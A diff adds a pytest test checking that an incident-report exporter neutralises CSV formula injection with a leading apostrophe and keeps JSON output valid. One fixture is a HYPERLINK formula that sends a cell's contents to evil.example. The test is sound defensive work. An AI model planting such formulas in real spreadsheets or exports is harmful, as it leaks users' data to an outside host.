@@ -168,3 +168,40 @@ def test_stats_follow_the_edition(project: Path, capsys: pytest.CaptureFixture[s
     assert json.loads(capsys.readouterr().out)["incidents"] == 1
     assert main(["stats", "--format", "json"]) == 0
     assert json.loads(capsys.readouterr().out)["incidents"] == 2
+
+
+def test_csv_cells_cannot_run_as_formulas(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """OWASP's CSV injection advice: a cell starting with =, +, -, @, a tab or a carriage
+    return gets a leading apostrophe, so a spreadsheet shows it instead of running it."""
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    text = report_text(
+        "INC-2024-001",
+        title=formula,
+        tags=["+tag"],
+        actions=[("AI-1", "@alice", "2024-02-01", "P0", "Not Started")],
+    ).replace("Add a safeguard", "-1 fewer retries")
+    (docs / "a.md").write_text(text, encoding="utf-8")
+    (docs / "b.md").write_text(
+        report_text("INC-2024-002").replace("  resolved:", "  revenue_usd: .inf\n  resolved:"),
+        encoding="utf-8",
+    )
+    (tmp_path / "mkdocs.yml").write_text(MKDOCS_YML.format(options="", extra=""), "utf-8")
+    monkeypatch.chdir(tmp_path)
+    incidents = list(csv.DictReader(io.StringIO(run(capsys, "--format", "csv"), newline="")))
+    mine = next(row for row in incidents if row["id"] == "INC-2024-001")
+    assert mine["title"] == "'" + formula and mine["tags"] == "'+tag"
+    actions = list(csv.DictReader(io.StringIO(run(capsys, "--what", "actions", "--format", "csv"))))
+    assert actions[0]["owner"] == "'@alice" and actions[0]["action"] == "'-1 fewer retries"
+
+    # JSON keeps the text as written, and is valid JSON: .inf was refused (PM011), so no
+    # Infinity can be written.
+    def no_constants(name: str) -> None:
+        raise AssertionError(f"{name} is not JSON")
+
+    rows = json.loads(run(capsys, "--format", "json"), parse_constant=no_constants)
+    assert next(r for r in rows if r["id"] == "INC-2024-001")["title"] == formula
+    assert all(r["revenue_usd"] is None for r in rows)
